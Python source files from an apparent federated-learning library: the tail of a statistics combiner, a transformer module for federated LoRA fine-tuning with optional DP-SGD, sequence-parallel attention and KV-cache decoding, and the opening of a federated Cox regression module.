    """Central: fan out partial_stats, combine exactly."""
    orgs = organizations or [o["id"] for o in client.organization.list()]
    task = client.task.create(
        input_=make_task_input("partial_stats", kwargs={"columns": columns}),
        organizations=orgs,
        name="partial_stats",
    )
    partials = client.wait_for_results(task["id"])
    return combine_stats(partials)


def combine_stats(partials: Sequence[dict]) -> dict:
    cols = partials[0]["columns"]
    count = np.sum([p["count"] for p in partials], axis=0)
    total = np.sum([p["sum"] for p in partials], axis=0)
    sumsq = np.sum([p["sumsq"] for p in partials], axis=0)
    mean = total / count
    var = sumsq / count - mean**2
    return {
        "columns": cols,
        "count": count,
        "mean": mean,
        "std": np.sqrt(np.maximum(var, 0.0)),
        "min": np.min([p["min"] for p in partials], axis=0),
        "max": np.max([p["max"] for p in partials], axis=0),
    }
