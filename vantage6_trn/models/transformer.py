"""Federated transformer fine-tune: LoRA adapters, optional DP-SGD,
sequence-parallel attention for long contexts.

The sequence-model member of the zoo (no reference counterpart —
vantage6 has no tensor runtime at all): a compact pre-LN encoder
classifier whose attention runs either as plain full attention (one
NeuronCore) or as **ring attention** over a ``seq`` mesh
(``parallel/ring.py``) when the context outgrows one core's HBM.
Federated fine-tuning follows config #5's shape: the base is frozen,
LoRA adapters on the attention projections train locally (optionally
with DP-SGD per-example clipping) and are FedAvg-combined.
"""

from __future__ import annotations

import functools
import logging
import math
from typing import Sequence

import jax
import jax.numpy as jnp
import numpy as np

from vantage6_trn import models
from vantage6_trn.algorithm.decorators import algorithm_client, data
from vantage6_trn.algorithm.table import Table
from vantage6_trn.common.rounds import RoundPolicy, iter_round, run_async_rounds
from vantage6_trn.common.serialization import (
    DELTA_HINT_KEY,
    DeltaTracker,
    make_task_input,
    remember_base,
)
from vantage6_trn.ops.admission import (
    AdmissionGate,
    AdmissionPolicy,
    NormTracker,
    Quarantine,
    UpdateRejected,
    empty_round,
)
from vantage6_trn.ops.aggregate import fedavg_params

log = logging.getLogger(__name__)


# ====================== model ======================

def init_params(vocab: int, d_model: int = 32, n_layers: int = 2,
                n_heads: int = 2, d_ff: int = 64, n_classes: int = 2,
                max_len: int = 128, seed: int = 0) -> dict:
    rng = np.random.default_rng(seed)

    def dense(fan_in, fan_out):
        return (rng.normal(size=(fan_in, fan_out))
                / math.sqrt(fan_in)).astype(np.float32)

    p = {
        "embed": dense(vocab, d_model),
        "pos": (0.02 * rng.normal(size=(max_len, d_model))).astype(np.float32),
        "head": dense(d_model, n_classes),
        "head_b": np.zeros((n_classes,), np.float32),
        "_meta": np.asarray([n_layers, n_heads], np.int32),
    }
    for i in range(n_layers):
        p[f"L{i}.wq"] = dense(d_model, d_model)
        p[f"L{i}.wk"] = dense(d_model, d_model)
        p[f"L{i}.wv"] = dense(d_model, d_model)
        p[f"L{i}.wo"] = dense(d_model, d_model)
        p[f"L{i}.w1"] = dense(d_model, d_ff)
        p[f"L{i}.w2"] = dense(d_ff, d_model)
        p[f"L{i}.ln1"] = np.ones((d_model,), np.float32)
        p[f"L{i}.ln2"] = np.ones((d_model,), np.float32)
    return p


def _rms_norm(x, scale):
    return x * scale * jax.lax.rsqrt(
        jnp.mean(x * x, axis=-1, keepdims=True) + 1e-6
    )


def _attention(q, k, v, attn_fn, causal: bool = False):
    if attn_fn is not None:
        # a supplied primitive (e.g. make_ring_attention(mesh, causal=…))
        # already encodes its masking
        return attn_fn(q, k, v)
    from vantage6_trn.ops.kernels.attention_bass import flash_attention

    # dispatching primitive: resident BASS flash kernel on neuron
    # hardware, reference_attention under tracing or off-device
    return flash_attention(q, k, v, causal=causal)


@functools.lru_cache(maxsize=4)
def _recompute_attn(causal: bool):
    """Attention with a recompute backward (``jax.custom_vjp``).

    Forward dispatches ``flash_attention`` (BASS kernel when eager on
    hardware, reference under tracing); backward saves only (q, k, v)
    and re-derives the softmax intermediates through
    ``reference_attention``'s VJP — flash-attention's memory story:
    no [B, H, S, S] probability tensor survives to the backward pass.
    """
    from vantage6_trn.ops.kernels.attention_bass import flash_attention
    from vantage6_trn.parallel.ring import reference_attention

    @jax.custom_vjp
    def attn(q, k, v):
        return flash_attention(q, k, v, causal=causal)

    def fwd(q, k, v):
        return flash_attention(q, k, v, causal=causal), (q, k, v)

    def bwd(res, g):
        q, k, v = res
        _, vjp = jax.vjp(
            lambda q_, k_, v_: reference_attention(q_, k_, v_,
                                                   causal=causal),
            q, k, v,
        )
        return vjp(g)

    attn.defvjp(fwd, bwd)
    return attn


def _trunk(params: dict, tokens: jnp.ndarray, adapters: dict | None,
           attn_fn, n_layers: int, n_heads: int,
           causal: bool, ffn_fn=None) -> jnp.ndarray:
    """Shared encoder/decoder stack: tokens [B, S] → hidden [B, S, D].

    ``ffn_fn(gate_w, w1, w2, x) -> y`` replaces the dense FFN for
    layers that carry MoE parameters (``L{i}.gate``/``moe_w1``/
    ``moe_w2`` — see ``parallel/moe.py``); dense layers are untouched,
    so dense and MoE blocks can mix in one stack."""
    b, s = tokens.shape
    d = params["embed"].shape[1]
    h = params["pos"][:s][None, :, :] + params["embed"][tokens]
    for i in range(n_layers):
        x = _rms_norm(h, params[f"L{i}.ln1"])

        def proj(name):
            w = params[f"L{i}.{name}"]
            out = x @ w
            if adapters is not None and f"L{i}.{name}.A" in adapters:
                out = out + (x @ adapters[f"L{i}.{name}.A"]) @ \
                    adapters[f"L{i}.{name}.B"]
            return out.reshape(b, s, n_heads, d // n_heads)

        q, k, v = proj("wq"), proj("wk"), proj("wv")
        attn = _attention(q, k, v, attn_fn, causal=causal).reshape(b, s, d)
        h = h + attn @ params[f"L{i}.wo"]
        x = _rms_norm(h, params[f"L{i}.ln2"])
        if ffn_fn is not None and f"L{i}.gate" in params:
            h = h + ffn_fn(params[f"L{i}.gate"], params[f"L{i}.moe_w1"],
                           params[f"L{i}.moe_w2"], x)
        else:
            h = h + jax.nn.gelu(x @ params[f"L{i}.w1"]) @ params[f"L{i}.w2"]
    return h


def forward(params: dict, tokens: jnp.ndarray, adapters: dict | None = None,
            attn_fn=None, n_layers: int | None = None,
            n_heads: int | None = None) -> jnp.ndarray:
    """Encoder classifier: tokens [B, S] int32 → logits [B, C].

    ``attn_fn(q,k,v)`` overrides the attention primitive — pass a
    ``make_ring_attention(mesh)`` callable for sequence parallelism.
    Inside jit, pass ``n_layers``/``n_heads`` explicitly (static) and a
    params dict without the host-only ``_meta`` entry.
    """
    if n_layers is None or n_heads is None:
        n_layers, n_heads = (int(v) for v in np.asarray(params["_meta"]))
    h = _trunk(params, tokens, adapters, attn_fn, n_layers, n_heads,
               causal=False)
    pooled = jnp.mean(h, axis=1)
    return pooled @ params["head"] + params["head_b"]


# ====================== decoder LM (causal + KV cache) ======================

def init_lm_params(vocab: int, d_model: int = 64, n_layers: int = 2,
                   n_heads: int = 2, d_ff: int = 128, max_len: int = 128,
                   seed: int = 0) -> dict:
    """Decoder-only LM: same trunk, per-position vocab head."""
    return init_params(vocab, d_model=d_model, n_layers=n_layers,
                       n_heads=n_heads, d_ff=d_ff, n_classes=vocab,
                       max_len=max_len, seed=seed)


def forward_lm(params: dict, tokens: jnp.ndarray,
               adapters: dict | None = None, attn_fn=None,
               n_layers: int | None = None,
               n_heads: int | None = None, ffn_fn=None) -> jnp.ndarray:
    """Causal LM: tokens [B, S] → next-token logits [B, S, V].
    ``ffn_fn`` serves MoE layers (parallel/moe.py) — dense layers
    ignore it."""
    if n_layers is None or n_heads is None:
        n_layers, n_heads = (int(v) for v in np.asarray(params["_meta"]))
    h = _trunk(params, tokens, adapters, attn_fn, n_layers, n_heads,
               causal=True, ffn_fn=ffn_fn)
    return h @ params["head"] + params["head_b"]


def lm_loss_fn(adapters, base, tokens, attn_fn=None,
               n_layers: int | None = None, n_heads: int | None = None,
               ffn_fn=None):
    """Next-token cross-entropy over positions 0..S-2 → S-1.

    The softmax runs in f32 regardless of the trunk dtype — standard
    loss-precision practice, and on trn the bf16 log_softmax backward at
    [B, S, 32k] faults in the runtime (verified on NC_v3; the f32 path
    executes the same model fine)."""
    if attn_fn is None:
        # recompute-backward attention (see _recompute_attn): the LM
        # loss is the training path, where the memory saving lands
        attn_fn = _recompute_attn(causal=True)
    logits = forward_lm(base, tokens, adapters=adapters, attn_fn=attn_fn,
                        n_layers=n_layers, n_heads=n_heads, ffn_fn=ffn_fn)
    logp = jax.nn.log_softmax(logits[:, :-1].astype(jnp.float32))
    nll = -jnp.take_along_axis(logp, tokens[:, 1:, None], axis=2)
    return jnp.mean(nll)


def init_cache(params: dict, batch: int, max_len: int,
               n_layers: int, n_heads: int, dtype=jnp.float32) -> dict:
    """Per-layer K/V buffers [B, max_len, H, Dh] for incremental decode.

    ``dtype=jnp.bfloat16`` halves cache bytes and the block-decode
    kernel's DMA traffic (blocks are upcast on-chip); attention math
    stays f32 either way, so parity vs an f32 cache holds to ~1e-2."""
    d = params["embed"].shape[1]
    dh = d // n_heads
    cache = {}
    for i in range(n_layers):
        cache[f"L{i}.k"] = jnp.zeros((batch, max_len, n_heads, dh), dtype)
        cache[f"L{i}.v"] = jnp.zeros((batch, max_len, n_heads, dh), dtype)
    return cache


def decode_step(params: dict, cache: dict, pos, token,
                adapters: dict | None = None, *, n_layers: int,
                n_heads: int) -> tuple[jnp.ndarray, dict]:
    """One incremental decode step with KV cache.

    ``token`` [B] int32 at position ``pos`` (traced scalar, or a [B]
    vector of per-stream cursors from the continuous batcher —
    ``node/serve.py``) → logits [B, V] and the updated cache. O(S·D)
    per step instead of the O(S²·D) a full re-forward would pay — the
    standard generation path.
    """
    b = token.shape[0]
    d = params["embed"].shape[1]
    dh = d // n_heads
    from vantage6_trn.ops.kernels.attention_bass import decode_attention

    vector_pos = getattr(pos, "ndim", 0) >= 1
    h = params["embed"][token] + params["pos"][pos]        # [B, D]
    cache = dict(cache)
    for i in range(n_layers):
        x = _rms_norm(h, params[f"L{i}.ln1"])

        def proj(name):
            out = x @ params[f"L{i}.{name}"]
            if adapters is not None and f"L{i}.{name}.A" in adapters:
                out = out + (x @ adapters[f"L{i}.{name}.A"]) @ \
                    adapters[f"L{i}.{name}.B"]
            return out.reshape(b, n_heads, dh)

        q, k, v = proj("wq"), proj("wk"), proj("wv")
        kd = cache[f"L{i}.k"].dtype
        if vector_pos:
            # per-stream cursors: each row writes its own position
            rows = jnp.arange(b)
            cache[f"L{i}.k"] = cache[f"L{i}.k"].at[rows, pos].set(
                k.astype(kd))
            cache[f"L{i}.v"] = cache[f"L{i}.v"].at[rows, pos].set(
                v.astype(kd))
        else:
            cache[f"L{i}.k"] = jax.lax.dynamic_update_slice(
                cache[f"L{i}.k"], k[:, None].astype(kd), (0, pos, 0, 0)
            )
            cache[f"L{i}.v"] = jax.lax.dynamic_update_slice(
                cache[f"L{i}.v"], v[:, None].astype(kd), (0, pos, 0, 0)
            )
        ks, vs = cache[f"L{i}.k"], cache[f"L{i}.v"]        # [B, T, H, Dh]
        # single-query attention vs the cache: the BASS decode kernel
        # for eager steps on hardware, the einsum path under tracing
        # (the `generate` scan) — see ops/kernels/attention_bass.py
        attn = decode_attention(q, ks, vs, pos).reshape(b, d)
        h = h + attn @ params[f"L{i}.wo"]
        x = _rms_norm(h, params[f"L{i}.ln2"])
        if f"L{i}.gate" in params:
            # MoE layer: route this one token through moe_ffn_dense
            # (the single copy of the top-1 math — parallel/moe.py)
            from vantage6_trn.parallel.moe import moe_ffn_dense

            h = h + moe_ffn_dense(
                {"gate": params[f"L{i}.gate"],
                 "w1": params[f"L{i}.moe_w1"],
                 "w2": params[f"L{i}.moe_w2"]},
                x[:, None],              # [B, 1, D] "sequence"
            )[:, 0]
        else:
            h = h + jax.nn.gelu(x @ params[f"L{i}.w1"]) @ params[f"L{i}.w2"]
    return h @ params["head"] + params["head_b"], cache


def prefill_cache(params: dict, tokens: jnp.ndarray, *,
                  n_layers: int, n_heads: int,
                  adapters: dict | None = None
                  ) -> tuple[jnp.ndarray, dict]:
    """Prompt prefill for serving: tokens [B, S] → (last-position
    logits [B, V], per-layer K/V planes ``{"L{i}.k"/"L{i}.v": [B, S,
    H, Dh]}``).

    One causal pass through the trunk — attention dispatches
    ``flash_attention`` (the resident BASS kernel on hardware) — with
    the K/V projections of every layer captured on the way, so the
    continuous batcher (``node/serve.py``) seeds its slot-pool cache in
    one shot instead of replaying the prompt token by token."""
    b, s = tokens.shape
    d = params["embed"].shape[1]
    dh = d // n_heads
    h = params["pos"][:s][None, :, :] + params["embed"][tokens]
    planes = {}
    for i in range(n_layers):
        x = _rms_norm(h, params[f"L{i}.ln1"])

        def proj(name):
            out = x @ params[f"L{i}.{name}"]
            if adapters is not None and f"L{i}.{name}.A" in adapters:
                out = out + (x @ adapters[f"L{i}.{name}.A"]) @ \
                    adapters[f"L{i}.{name}.B"]
            return out.reshape(b, s, n_heads, dh)

        q, k, v = proj("wq"), proj("wk"), proj("wv")
        planes[f"L{i}.k"], planes[f"L{i}.v"] = k, v
        attn = _attention(q, k, v, None, causal=True).reshape(b, s, d)
        h = h + attn @ params[f"L{i}.wo"]
        x = _rms_norm(h, params[f"L{i}.ln2"])
        if f"L{i}.gate" in params:
            from vantage6_trn.parallel.moe import moe_ffn_dense

            h = h + moe_ffn_dense(
                {"gate": params[f"L{i}.gate"],
                 "w1": params[f"L{i}.moe_w1"],
                 "w2": params[f"L{i}.moe_w2"]},
                x,
            )
        else:
            h = h + jax.nn.gelu(x @ params[f"L{i}.w1"]) @ params[f"L{i}.w2"]
    logits = h[:, -1] @ params["head"] + params["head_b"]
    return logits, planes


@functools.partial(jax.jit,
                   static_argnames=("n_new", "n_layers", "n_heads",
                                    "max_len"))
def generate(params: dict, prompt: jnp.ndarray, n_new: int, *,
             n_layers: int, n_heads: int,
             max_len: int) -> jnp.ndarray:
    """Greedy decode: prompt [B, S0] → [B, S0 + n_new].

    Prefill streams the prompt through ``decode_step`` (one scan), then
    generation feeds each argmax back in — all inside one jit, static
    shapes only (neuronx-cc-friendly: no data-dependent python control
    flow)."""
    b, s0 = prompt.shape
    if s0 + n_new > max_len:
        raise ValueError(
            f"prompt ({s0}) + n_new ({n_new}) exceeds max_len "
            f"({max_len}) — K/V writes would clamp and corrupt output"
        )
    cache = init_cache(params, b, max_len, n_layers, n_heads)

    def prefill(carry, tok_col):
        cache, _ = carry
        logits, cache = decode_step(
            params, cache, tok_col[0], tok_col[1],
            n_layers=n_layers, n_heads=n_heads,
        )
        return (cache, logits), None

    positions = jnp.arange(s0)
    (cache, logits), _ = jax.lax.scan(
        prefill, (cache, jnp.zeros((b, params["head"].shape[1]))),
        (positions, prompt.T),
    )

    def gen(carry, pos):
        cache, logits, out = carry
        tok = jnp.argmax(logits, axis=-1).astype(jnp.int32)   # [B]
        out = jax.lax.dynamic_update_slice(out, tok[:, None],
                                           (0, pos - s0))
        logits, cache = decode_step(params, cache, pos, tok,
                                    n_layers=n_layers, n_heads=n_heads)
        return (cache, logits, out), None

    out0 = jnp.zeros((b, n_new), jnp.int32)
    (cache, logits, out), _ = jax.lax.scan(
        gen, (cache, logits, out0), jnp.arange(s0, s0 + n_new)
    )
    return jnp.concatenate([prompt, out], axis=1)


def loss_fn(adapters, base, tokens, y, attn_fn=None,
            n_layers: int | None = None, n_heads: int | None = None):
    logits = forward(base, tokens, adapters=adapters, attn_fn=attn_fn,
                     n_layers=n_layers, n_heads=n_heads)
    logp = jax.nn.log_softmax(logits)
    return -jnp.mean(jnp.take_along_axis(logp, y[:, None], axis=1))


# ====================== LoRA ======================

LORA_TARGETS = ("wq", "wv")


def init_adapters(base: dict, rank: int = 4, seed: int = 0) -> dict:
    rng = np.random.default_rng(seed)
    n_layers = int(np.asarray(base["_meta"])[0])
    d = base["embed"].shape[1]
    ad = {}
    for i in range(n_layers):
        for t in LORA_TARGETS:
            ad[f"L{i}.{t}.A"] = (
                rng.normal(size=(d, rank)) / math.sqrt(d)
            ).astype(np.float32)
            ad[f"L{i}.{t}.B"] = np.zeros((rank, d), np.float32)
    return ad


def merge_adapters(base: dict, adapters: dict, n_layers: int | None = None,
                   clip_scale: float = 1.0) -> dict:
    """Fold trained LoRA adapters into the frozen base:
    ``W' = clip_scale·W + A@B`` per LoRA target (this zoo trains A@B
    directly, so α/r is already folded into A's scale).

    Mathematically identical to the adapter form the trunk applies —
    ``x@(W + A@B) = x@W + (x@A)@B`` — and routed through the fused
    ``tile_lora_apply`` BASS kernel on hardware (jnp fallback
    elsewhere). Non-target entries are shared with ``base``, not
    copied."""
    from vantage6_trn.ops.kernels.attention_bass import lora_apply

    if n_layers is None:
        n_layers = int(np.asarray(base["_meta"])[0])
    merged = dict(base)
    for i in range(n_layers):
        for t in LORA_TARGETS:
            a = adapters.get(f"L{i}.{t}.A")
            b = adapters.get(f"L{i}.{t}.B")
            if a is None or b is None:
                continue
            merged[f"L{i}.{t}"] = lora_apply(base[f"L{i}.{t}"], a, b,
                                             clip_scale=clip_scale)
    return merged


@functools.partial(jax.jit, static_argnames=("n_layers", "n_heads"))
def _merged_loss(merged, tokens, y, n_layers: int, n_heads: int):
    return loss_fn(None, merged, tokens, y, n_layers=n_layers,
                   n_heads=n_heads)


def _local_fit(adapters, base, tokens, y, lr, clip, noise_mult, key,
               epochs: int, dp: bool, n_layers: int, n_heads: int,
               seq_parallel: int = 0, seq_strategy: str = "ring"):
    """Host wrapper around the jitted epoch scan.

    Single-core fits report the final loss against the *merged* base
    (``merge_adapters`` → the fused LoRA BASS kernel on hardware) —
    same number as the in-jit adapter-form loss, but the fold itself
    runs on the device engines. Sequence-parallel fits keep the in-jit
    loss: their mesh ``attn_fn`` must stay inside the traced program.
    """
    seq = bool(seq_parallel and seq_parallel > 1)
    adapters, loss = _local_fit_jit(
        adapters, base, tokens, y, lr, clip, noise_mult, key,
        epochs, dp, n_layers, n_heads, seq_parallel, seq_strategy,
        with_loss=seq,
    )
    if not seq:
        merged = merge_adapters(base, adapters, n_layers=n_layers)
        loss = _merged_loss(merged, tokens, y, n_layers, n_heads)
    return adapters, loss


@functools.partial(
    jax.jit,
    static_argnames=("epochs", "dp", "n_layers", "n_heads", "seq_parallel",
                     "seq_strategy", "with_loss"),
)
def _local_fit_jit(adapters, base, tokens, y, lr, clip, noise_mult, key,
                   epochs: int, dp: bool, n_layers: int, n_heads: int,
                   seq_parallel: int = 0, seq_strategy: str = "ring",
                   with_loss: bool = True):
    attn_fn = None
    if seq_parallel and seq_parallel > 1:
        from vantage6_trn.parallel.ring import (
            make_ring_attention,
            sequence_mesh,
        )
        from vantage6_trn.parallel.ulysses import make_ulysses_attention

        smesh = sequence_mesh(seq_parallel)
        if seq_strategy == "ulysses":
            # A2A head-scatter: dense full-seq attention per head group
            # (latency-lean when S/n fits HBM; needs n | heads)
            attn_fn = make_ulysses_attention(smesh)
        elif seq_strategy == "ring":
            attn_fn = make_ring_attention(smesh)
        else:
            raise ValueError(f"unknown seq_strategy: {seq_strategy!r}")
    _loss = functools.partial(loss_fn, n_layers=n_layers, n_heads=n_heads,
                              attn_fn=attn_fn)
    if dp:
        per_ex = jax.vmap(
            jax.grad(lambda a, b, t, yy: _loss(a, b, t[None], yy[None])),
            in_axes=(None, None, 0, 0),
        )
        n = tokens.shape[0]

        def one(ad, k):
            g = per_ex(ad, base, tokens, y)
            leaves = jax.tree_util.tree_leaves(g)
            norms = jnp.sqrt(sum(
                jnp.sum(v.reshape(n, -1) ** 2, axis=1) for v in leaves
            ))
            scale = jnp.minimum(1.0, clip / jnp.clip(norms, 1e-12))
            g = jax.tree_util.tree_map(
                lambda v: jnp.sum(
                    v * scale.reshape((n,) + (1,) * (v.ndim - 1)), axis=0
                ), g,
            )
            keys = jax.random.split(k, len(leaves))
            kd = jax.tree_util.tree_unflatten(
                jax.tree_util.tree_structure(g), list(keys)
            )
            g = jax.tree_util.tree_map(
                lambda v, kk: (v + noise_mult * clip
                               * jax.random.normal(kk, v.shape, v.dtype)) / n,
                g, kd,
            )
            return jax.tree_util.tree_map(lambda a, gg: a - lr * gg, ad, g), None
    else:
        grad_fn = jax.grad(_loss)

        def one(ad, k):
            g = grad_fn(ad, base, tokens, y)
            return jax.tree_util.tree_map(lambda a, gg: a - lr * gg, ad, g), None

    keys = jax.random.split(key, epochs)
    adapters, _ = jax.lax.scan(one, adapters, keys)
    loss = (_loss(adapters, base, tokens, y) if with_loss
            else jnp.float32(0.0))
    return adapters, loss


def _tokens_from(df: Table, token_prefix: str, label: str):
    cols = sorted(
        (c for c in df.columns if c.startswith(token_prefix)),
        key=lambda c: int(c[len(token_prefix):]),
    )
    toks = np.stack([np.asarray(df[c], np.int32) for c in cols], axis=1)
    return toks, np.asarray(df[label], np.int32)


@data(1)
def partial_fit_lora(
    df: Table,
    base: dict,
    adapters: dict,
    label: str = "label",
    token_prefix: str = "tok",
    lr: float = 0.1,
    epochs: int = 2,
    dp: bool = False,
    clip: float = 1.0,
    noise_multiplier: float = 0.0,
    seed: int = 0,
    seq_parallel: int = 0,
    seq_strategy: str = "ring",
) -> dict:
    """Worker LoRA fit. ``seq_parallel=N`` shards attention over N
    devices — ``seq_strategy`` picks ring (K/V blocks stream around the
    mesh; blocks scale as S/N) or ulysses (one stacked all-to-all, dense
    full-sequence attention per head group; needs N | heads).
    ``dp=True`` adds DP-SGD per-example clipping + noise."""
    tokens, y = _tokens_from(df, token_prefix, label)
    n_layers, n_heads = (int(v) for v in np.asarray(base["_meta"]))
    base_dev = {k: jnp.asarray(v) for k, v in base.items() if k != "_meta"}
    if seq_parallel and dp:
        raise ValueError("seq_parallel with per-example DP is not "
                         "supported yet (vmap over a sharded ring)")
    # DP noise must be unpredictable to other parties: never key it on the
    # task-supplied seed (public to all orgs). Local OS entropy instead;
    # `seed` stays accepted for API compat / non-privacy uses.
    del seed
    out, loss = _local_fit(
        jax.tree_util.tree_map(jnp.asarray, adapters),
        base_dev,
        jnp.asarray(tokens), jnp.asarray(y),
        jnp.float32(lr), jnp.float32(clip), jnp.float32(noise_multiplier),
        models.local_noise_key(), int(epochs), bool(dp),
        n_layers, n_heads, int(seq_parallel), str(seq_strategy),
    )
    # scalars first: a streaming layer sink seals them into the V6BN
    # header before the first adapter leaf leaves the device
    scalars = {"n": int(len(y)), "loss": float(loss)}
    host = models.stream_layers(out, scalars)
    result = {"weights": {k: np.asarray(v) for k, v in host.items()},
              **scalars}
    if not models.layer_stream_active():
        # uplink delta hint: trained adapters XOR the adapters this
        # round started from (driver holds them too); popped by the
        # node daemon, honored only when the downlink was delta.
        # Skipped while streaming: the sealed layout has no delta frames.
        result[DELTA_HINT_KEY] = {"weights": adapters}
    return result


@algorithm_client
def fit_lora(
    client,
    vocab: int,
    label: str = "label",
    token_prefix: str = "tok",
    d_model: int = 32,
    n_layers: int = 2,
    n_heads: int = 2,
    n_classes: int = 2,
    max_len: int = 128,
    rank: int = 4,
    rounds: int = 3,
    lr: float = 0.1,
    epochs_per_round: int = 2,
    dp: bool = False,
    clip: float = 1.0,
    noise_multiplier: float = 0.0,
    base_weights: dict | None = None,
    organizations: Sequence[int] | None = None,
    round_policy: dict | str | None = None,  # see common.rounds
    robust: dict | str | None = None,  # see ops.admission
) -> dict:
    """Central: FedAvg over LoRA adapters of a frozen transformer.

    ``round_policy`` selects the straggler treatment (``common.rounds``):
    sync barrier (default), quorum early-close, or async-buffered FedAvg
    over the adapters with staleness-weighted accumulation.

    ``robust`` arms byzantine-robust aggregation (``ops.admission``):
    each arriving adapter set passes finiteness/norm admission before
    it may enter the combine, ``trimmed_mean``/``median`` switch the
    combine itself to the coordinate-wise robust reduction (sync/quorum
    only), and repeatedly-rejected orgs are quarantined out of the
    dispatch cohort."""
    policy = RoundPolicy.from_spec(round_policy)
    adm = AdmissionPolicy.from_spec(robust)
    orgs = organizations or [o["id"] for o in client.organization.list()]
    base = base_weights or init_params(
        vocab, d_model=d_model, n_layers=n_layers, n_heads=n_heads,
        n_classes=n_classes, max_len=max_len,
    )
    adapters = init_adapters(base, rank=rank)

    def _lora_input(adp):
        input_ = make_task_input(
            "partial_fit_lora",
            kwargs={"base": base, "adapters": adp, "label": label,
                    "token_prefix": token_prefix, "lr": lr,
                    "epochs": epochs_per_round, "dp": dp, "clip": clip,
                    "noise_multiplier": noise_multiplier, "seed": 0},
        )
        # base for the workers' uplink deltas (DELTA_HINT_KEY)
        remember_base({"weights": adp})
        return input_

    if policy.mode == "async":
        out = run_async_rounds(
            client, orgs=orgs, rounds=rounds, policy=policy,
            make_input=_lora_input, init_weights=adapters,
            name="transformer-lora", robust=adm,
        )
        return {"base": base, "adapters": out["weights"],
                "history": out["history"], "rounds": rounds,
                "round_policy": policy.to_dict(),
                "async_stats": out["stats"]}

    history = []
    gate = (AdmissionGate(adm, NormTracker(adm.history_cap))
            if adm is not None else None)
    quarantine = (Quarantine(adm.quarantine_after, adm.quarantine_rounds)
                  if adm is not None else None)
    # per-round delta negotiation: the frozen base is byte-identical
    # every round, so once all orgs ack the previous input the XOR
    # delta zeroes it out entirely — only the adapter diffs ship
    tracker = DeltaTracker()
    for _rnd in range(rounds):
        cohort = (quarantine.cohort(orgs, _rnd)
                  if quarantine is not None else orgs)
        if not cohort:
            raise empty_round(
                "sync", f"round {_rnd}: entire cohort quarantined"
            )
        input_ = _lora_input(adapters)
        task = client.task.create(
            input_=input_, organizations=cohort,
            name="transformer-lora",
            delta_base=tracker.base(cohort),
        )
        # participants recorded so a quorum close (straggler never
        # acked) forces the next round's input back to dense
        tracker.sent(input_, cohort)
        partials = []
        rejected = 0
        for item in iter_round(client, task["id"], policy):
            p = item["result"]
            tracker.ack(item["organization_id"], p)
            if not p:
                continue
            if gate is not None:
                try:
                    p = dict(p, weights=gate.admit_params(p["weights"]))
                except UpdateRejected as e:
                    rejected += 1
                    org = item["organization_id"]
                    if quarantine.strike(org, _rnd):
                        log.warning(
                            "round %d: org %s quarantined after "
                            "rejected adapters: %s", _rnd, org, e)
                    else:
                        log.warning(
                            "round %d: adapters from org %s rejected: "
                            "%s", _rnd, org, e)
                    continue
            partials.append(p)
        if not partials:
            if rejected:
                raise empty_round(
                    "sync",
                    f"round {_rnd}: all {rejected} adapter updates "
                    "were rejected by admission",
                )
            # deadline fired before any worker finished: keep the
            # current adapters and record the stalled round
            history.append({"loss": None})
            continue
        adapters = fedavg_params(partials, robust=adm)
        n = sum(p["n"] for p in partials)
        history.append({
            "loss": float(sum(p["loss"] * p["n"] for p in partials) / n),
        })
    return {"base": base, "adapters": adapters, "history": history,
            "rounds": rounds, "round_policy": policy.to_dict()}


@data(1)
def partial_evaluate(df: Table, base: dict, adapters: dict,
                     label: str = "label", token_prefix: str = "tok") -> dict:
    tokens, y = _tokens_from(df, token_prefix, label)
    logits = np.asarray(forward(
        jax.tree_util.tree_map(jnp.asarray, base), jnp.asarray(tokens),
        adapters=jax.tree_util.tree_map(jnp.asarray, adapters),
    ))
    return {"n": int(len(y)),
            "correct": float(np.sum(logits.argmax(1) == y))}
