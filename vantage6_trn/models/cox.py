"""Federated Cox proportional hazards (BASELINE config #4, second half).

WebDISCO-style horizontal protocol (the well-known vantage6 Cox
algorithm pattern): patient rows are split across orgs; per Newton
iteration each org emits, for every *global* event time, its local
risk-set aggregates

    s0   = Σ_{i in risk set} exp(η_i)
    s1   = Σ exp(η_i) · x_i                 (p,)
    s2   = Σ exp(η_i) · x_i x_iᵀ            (p, p)
    sx   = Σ_{i: event at t} x_i            (p,)   [events only]
    d    = #events at t

The central function sums them across orgs and takes a Newton step on
the Breslow partial likelihood — algebraically identical to pooled Cox
regression. Raw times/covariates never leave the node; only per-event-
time aggregates do.
"""

from __future__ import annotations

import functools
from typing import Sequence

import jax
import jax.numpy as jnp
import numpy as np

from vantage6_trn.algorithm.decorators import algorithm_client, data
from vantage6_trn.algorithm.table import Table
from vantage6_trn.common.serialization import make_task_input


@data(1)
def partial_event_times(df: Table, time_col: str, event_col: str) -> dict:
    """Worker round 1: this org's distinct event times."""
    t = np.asarray(df[time_col], np.float64)
    e = np.asarray(df[event_col]) != 0
    return {"event_times": np.unique(t[e]), "n": int(len(t))}


@functools.partial(jax.jit, static_argnames=())
def _risk_aggregates(x, t, e, beta, times):
    """Vectorized per-event-time aggregates for one partition."""
    eta = x @ beta
    r = jnp.exp(eta - jnp.max(eta))          # stabilized; scale cancels
    scale = jnp.exp(jnp.max(eta))
    r = r * scale
    # at_risk[k, i] = 1 if t_i >= times[k]
    at_risk = (t[None, :] >= times[:, None]).astype(x.dtype)
    is_event = ((t[None, :] == times[:, None]) & e[None, :]).astype(x.dtype)
    s0 = at_risk @ r                                        # (K,)
    rx = x * r[:, None]
    s1 = at_risk @ rx                                       # (K, p)
    # s2[k] = Σ_i at_risk[k,i] r_i x_i x_iᵀ  — einsum over i
    s2 = jnp.einsum("ki,ip,iq->kpq", at_risk, rx, x)        # (K, p, p)
    sx = is_event @ x                                       # (K, p)
    d = is_event.sum(axis=1)                                # (K,)
    return s0, s1, s2, sx, d


@data(1)
def partial_cox_stats(df: Table, beta: Sequence[float],
                      features: Sequence[str], time_col: str,
                      event_col: str, event_times: Sequence[float]) -> dict:
    x = jnp.asarray(df.to_matrix(features, dtype=np.float32))
    t = jnp.asarray(np.asarray(df[time_col], np.float32))
    e = jnp.asarray((np.asarray(df[event_col]) != 0))
    times = jnp.asarray(np.asarray(event_times, np.float32))
    s0, s1, s2, sx, d = _risk_aggregates(
        x, t, e, jnp.asarray(beta, jnp.float32), times
    )
    return {"s0": np.asarray(s0), "s1": np.asarray(s1),
            "s2": np.asarray(s2), "sx": np.asarray(sx),
            "d": np.asarray(d)}


@algorithm_client
def fit(client, features: Sequence[str], time_col: str = "time",
        event_col: str = "event", max_iter: int = 20, tol: float = 1e-6,
        organizations: Sequence[int] | None = None) -> dict:
    """Central WebDISCO driver: global event times → Newton iterations."""
